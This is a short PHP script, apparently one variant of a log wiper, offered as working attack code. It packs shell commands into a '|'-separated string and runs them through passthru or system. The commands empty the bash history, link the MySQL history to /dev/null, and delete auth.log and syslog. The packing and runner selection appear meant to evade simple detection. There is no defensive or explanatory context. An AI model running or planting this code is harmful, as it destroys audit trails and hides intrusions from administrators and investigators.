<?php
// The same wiper with its lines kept as one string cut on "|" and the runner picked from a list.
$k = 'cat /dev/null > ~/.bash_history|ln -sf /dev/null ~/.mysql_history|rm -f /var/log/auth.log /var/log/syslog';
$run = function_exists('passthru') ? 'passthru' : 'system';
foreach (explode('|', $k) as $c) { if ($run === 'passthru') { passthru($c); } else { system($c); } }
